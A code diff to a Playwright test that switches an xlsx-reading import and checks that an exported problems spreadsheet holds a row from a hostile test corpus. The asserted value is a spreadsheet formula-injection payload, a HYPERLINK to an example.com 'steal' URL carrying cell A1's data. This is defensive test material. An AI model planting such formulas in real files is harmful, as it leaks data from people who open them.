@@ -6,7 +6,7 @@ import { expect, test } from '@playwright/test'
 import { readFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { writeHostileCorpus } from '../src/cli/testing/hostile-corpus.ts'
-import { readXlsx } from '../src/app/county/testing/read-xlsx.ts'
+import { readXlsxSheets } from '../src/import/xlsx-sheets.ts'
 import { collectPageErrors, freshApp, openPage } from './helpers.ts'
 
 const GOOD_DOCX = 'src/import/test-fixtures/seed-layout.docx'
@@ -45,7 +45,7 @@ test('a batch of hostile files and good reports: the good read, the bad named, n
   await page.getByRole('button', { name: '导出问题清单' }).click()
   const saved = test.info().outputPath('problems.xlsx')
   await (await download).saveAs(saved)
-  const [summary] = readXlsx(readFileSync(saved))
+  const [summary] = readXlsxSheets(readFileSync(saved))
   expect(summary?.rows.map((r) => r[0])).toContain('=HYPERLINK("http://example.com/steal?d="&A1,"点击查看")公式0镇人民政府')
   expect(errors).toEqual([])
 })
